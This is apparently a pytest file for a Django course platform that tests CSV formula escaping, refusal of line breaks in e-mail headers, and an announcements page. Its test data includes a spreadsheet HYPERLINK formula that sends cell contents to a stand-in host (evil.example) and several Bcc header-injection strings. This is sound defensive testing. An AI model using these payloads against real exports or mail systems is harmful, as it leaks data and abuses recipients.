"""Exports and headers are safe (issue #10): CSV cells can't run as formulas, text that reaches
an e-mail header can't hold a line break, and a message that still can't be built fails once,
with its reason; the Announcements page lists course and workshop announcements."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from wagtail.test.utils.form_data import nested_form_data, streamfield

from config.csv_export import safe_cell
from courses import services as course_services
from courses.dispatch import claim_due_deliveries
from courses.models import LessonDelivery, LessonPage
from home.models import Announcement, CreatorApplication
from home.studio import announcements
from tests.courses.factories import course as dispatch_course
from tests.courses.factories import enroll, morning_learner
from tests.payments.factories import paid_course, user
from tests.workshops.factories import paid_workshop
from workshops import services as workshop_services

from .factories import approved_creator, site_roots, staff_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("plain") == "plain"
    assert safe_cell(42) == 42


@pytest.fixture
def maya():
    return approved_creator(email="maya@example.com", display_name="Maya Okafor")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_learners_csv_neutralises_a_formula_in_a_name(maya):
    course = paid_course(storefront_page=maya[1], title="Sourdough", lessons=1)
    course_services.enroll(
        learner=user(email="mallory@example.com", first_name=FORMULA), course=course
    )
    client = Client()
    client.force_login(maya[0])

    rows = csv_rows(client.get(reverse("studio_export_learners")))

    names = [row[3] for row in rows[1:]]
    assert names == ["'" + FORMULA]


def test_the_registrations_export_neutralises_formulas_too(maya):
    workshop = paid_workshop(parent=maya[1], title="=1+1 shaping", slug="shaping")
    seat = workshop_services.hold_seat(learner=user(email="+1@example.com"), workshop=workshop)
    workshop_services.confirm_paid_seat(registration_id=seat.pk)
    client = Client()
    client.force_login(staff_user())

    rows = csv_rows(client.get("/admin/registrations/?export=csv"))

    assert rows[1][:2] == ["'+1@example.com", "'=1+1 shaping"]


# Line breaks in text that becomes an e-mail header


def test_an_announcement_subject_with_a_line_break_is_refused_in_the_form(maya):
    course = paid_course(storefront_page=maya[1], title="Sourdough", lessons=1)
    client = Client()
    client.force_login(maya[0])

    response = client.post(
        reverse("studio_announce"),
        {"item": f"course-{course.pk}", "subject": "Hi\r\nBcc: all@example.com", "body": "x"},
    )

    assert response.status_code == 400
    assert "line breaks are not allowed" in response.content.decode()
    assert not Announcement.objects.exists()


def test_the_announce_service_refuses_a_line_break_too(maya):
    course = paid_course(storefront_page=maya[1], title="Sourdough", lessons=1)
    with pytest.raises(announcements.AnnouncementRefused, match="line breaks"):
        announcements.announce(author=maya[0], course=course, subject="a\nb", body="x")
    assert not Announcement.objects.exists()


def lesson_form(lesson: LessonPage, title: str) -> dict:
    return nested_form_data(
        {
            "title": title,
            "slug": lesson.slug,
            "day": lesson.day,
            "estimated_minutes": 10,
            "summary": "",
            "body": streamfield([]),
            "action-publish": "action-publish",
        }
    )


def test_a_page_title_with_a_line_break_is_refused_in_the_editor(maya):
    course = paid_course(storefront_page=maya[1], title="Sourdough", lessons=1)
    lesson = LessonPage.objects.child_of(course).get()
    client = Client()
    client.force_login(maya[0])

    response = client.post(
        reverse("wagtailadmin_pages:edit", args=[lesson.pk]),
        lesson_form(lesson, "Day 1\r\nBcc: everyone@example.com"),
    )

    assert response.status_code == 200
    assert "line breaks are not allowed" in response.content.decode()
    assert LessonPage.objects.get(pk=lesson.pk).title == lesson.title


def test_a_creator_display_name_with_a_line_break_is_refused(client):
    site_roots()
    client.force_login(user(email="nora@example.com"))
    response = client.post(
        "/studio/apply/", {"display_name": "Nora\nQuinn", "niche": "Knots", "bio": "I tie."}
    )
    assert response.status_code == 400
    assert "line breaks are not allowed" in response.content.decode()
    assert not CreatorApplication.objects.exists()


def test_a_lesson_email_that_cannot_be_built_fails_once_with_the_reason(
    django_capture_on_commit_callbacks,
):
    """A title from before the validation: every learner's e-mail fails at once, no retries."""
    enrolled = datetime(2026, 6, 1, 5, 0, tzinfo=UTC)
    sourdough = dispatch_course(lessons=1)
    lesson = LessonPage.objects.child_of(sourdough).get()
    LessonPage.objects.filter(pk=lesson.pk).update(title="Day 1\r\nBcc: all@example.com")
    for n in range(2):
        enroll(morning_learner(email=f"l{n}@example.com"), sourdough, now=enrolled)
    mail.outbox.clear()

    with django_capture_on_commit_callbacks(execute=True):
        claim_due_deliveries(now=enrolled + timedelta(hours=2))
    with django_capture_on_commit_callbacks(execute=True):
        claim_due_deliveries(now=enrolled + timedelta(days=2))

    deliveries = list(LessonDelivery.objects.all())
    assert [d.status for d in deliveries] == [LessonDelivery.Status.FAILED] * 2
    assert all(d.attempts == 1 for d in deliveries)
    assert all(
        "newline" in d.last_error.lower() or "header" in d.last_error.lower() for d in deliveries
    )
    assert mail.outbox == []


# The Announcements page


def test_the_announcements_page_lists_course_and_workshop_announcements(
    maya, django_capture_on_commit_callbacks
):
    course = paid_course(storefront_page=maya[1], title="Sourdough basics", lessons=1)
    workshop = paid_workshop(parent=maya[1], title="Shaping live", slug="shaping-live")
    client = Client()
    client.force_login(maya[0])
    with django_capture_on_commit_callbacks(execute=True):
        for item in (f"course-{course.pk}", f"workshop-{workshop.pk}"):
            response = client.post(
                reverse("studio_announce"), {"item": item, "subject": f"About {item}", "body": "x"}
            )
            assert response.status_code == 302, item

    response = client.get(reverse("studio_announce"))

    assert response.status_code == 200
    html = response.content.decode()
    assert "Sourdough basics" in html and "Shaping live" in html
    assert f"About course-{course.pk}" in html and f"About workshop-{workshop.pk}" in html
